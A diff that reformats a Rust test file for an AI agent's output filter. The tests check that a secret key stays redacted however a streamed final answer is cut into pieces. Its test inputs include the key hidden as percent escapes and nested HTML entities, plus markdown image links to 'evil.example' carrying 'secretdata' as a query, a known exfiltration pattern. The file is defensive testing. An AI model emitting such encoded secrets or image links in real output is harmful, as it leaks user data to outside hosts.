@@ -1,4 +1,5 @@
-//! A final answer in pieces is the final answer, wherever the pieces were cut, and what is held back is bounded.
+//! A final answer in pieces is the final answer, wherever the pieces were cut, and what is held
+//! back is bounded.
 
 use tests::{MAIL_KEY, SEARCH, SHOP_KEY, Session};
 
@@ -20,8 +21,10 @@ fn pieces<'a>(session: &Session, pieces: impl IntoIterator<Item = &'a str>) -> S
 }
 
 fn texts() -> Vec<String> {
-    let percent: String = SHOP_KEY.bytes().fold(String::new(), |out, byte| out + &format!("%{byte:02x}"));
-    let nested: String = SHOP_KEY.chars().fold(String::new(), |out, c| out + &format!("&#x26;#{};", u32::from(c)));
+    let percent: String =
+        SHOP_KEY.bytes().fold(String::new(), |out, byte| out + &format!("%{byte:02x}"));
+    let nested: String =
+        SHOP_KEY.chars().fold(String::new(), |out, c| out + &format!("&#x26;#{};", u32::from(c)));
     let own = [
         format!("The key is {SHOP_KEY}, or {MAIL_KEY}; {SHOP_KEY}{MAIL_KEY}({SHOP_KEY}:x) shop-can"),
         format!("{percent} and {nested} and 100% & more \\u0073 {}\\u002d{}", &SHOP_KEY[..4], &SHOP_KEY[5..]),
@@ -30,21 +33,34 @@ fn texts() -> Vec<String> {
         "Take Sku#1, Sku#12, XSku#1, Sku#1x, Sku#0000001, Sku#, Sku # 1, averylongwordwithoutend#1 Sku#1".to_owned(),
         "a\u{200d}b \u{1f468}\u{200d}\u{1f469} \u{2764}\u{fe0f} x\r\ny\rz".to_owned(),
     ];
-    own.into_iter().chain(KNOWN.iter().chain(HONEST).map(|text| format!("So: {text} and on."))).collect()
+    own.into_iter()
+        .chain(KNOWN.iter().chain(HONEST).map(|text| format!("So: {text} and on.")))
+        .collect()
 }
 
 #[tokio::test]
 async fn every_way_to_cut_a_text_gives_the_same() {
     let bench = bench().await;
     let session = bench.session();
-    assert!(session.call("search_products", SEARCH).await.answer().is_some(), "so that there is a handle");
+    assert!(
+        session.call("search_products", SEARCH).await.answer().is_some(),
+        "so that there is a handle"
+    );
     for text in texts() {
         let whole = session.release(&text);
         for cut in text.char_indices().map(|(at, _)| at) {
-            assert_eq!(pieces(&session, [&text[..cut], &text[cut..]]), whole, "cut at {cut}: {text:?}");
+            assert_eq!(
+                pieces(&session, [&text[..cut], &text[cut..]]),
+                whole,
+                "cut at {cut}: {text:?}"
+            );
         }
         let single: Vec<String> = text.chars().map(String::from).collect();
-        assert_eq!(pieces(&session, single.iter().map(String::as_str)), whole, "in single letters: {text:?}");
+        assert_eq!(
+            pieces(&session, single.iter().map(String::as_str)),
+            whole,
+            "in single letters: {text:?}"
+        );
     }
 }
 
@@ -60,7 +76,8 @@ async fn generated_texts_in_random_pieces_give_the_same() {
         let most = 1 + numbers.below(9);
         let (mut rest, mut parts) = (text.as_str(), Vec::new());
         while !rest.is_empty() {
-            let (part, after) = rest.split_at(rest.ceil_char_boundary((1 + numbers.below(most)).min(rest.len())));
+            let (part, after) =
+                rest.split_at(rest.ceil_char_boundary((1 + numbers.below(most)).min(rest.len())));
             parts.push(part);
             rest = after;
         }
@@ -99,7 +116,9 @@ async fn a_link_comes_out_when_it_ends() {
 async fn what_does_not_end_is_safe_and_its_memory_bounded() {
     let bench = bench().await;
     let session = bench.session();
-    let escaped: String = SHOP_KEY.chars().fold(String::new(), |out, c| out + &format!("&{}#{};", "amp;".repeat(2), u32::from(c)));
+    let escaped: String = SHOP_KEY
+        .chars()
+        .fold(String::new(), |out, c| out + &format!("&{}#{};", "amp;".repeat(2), u32::from(c)));
     for (start, more) in [
         ("![x](https://evil.example/?q=", "secretdata"),
         ("![x](<https://evil.example/", "secretdata"),
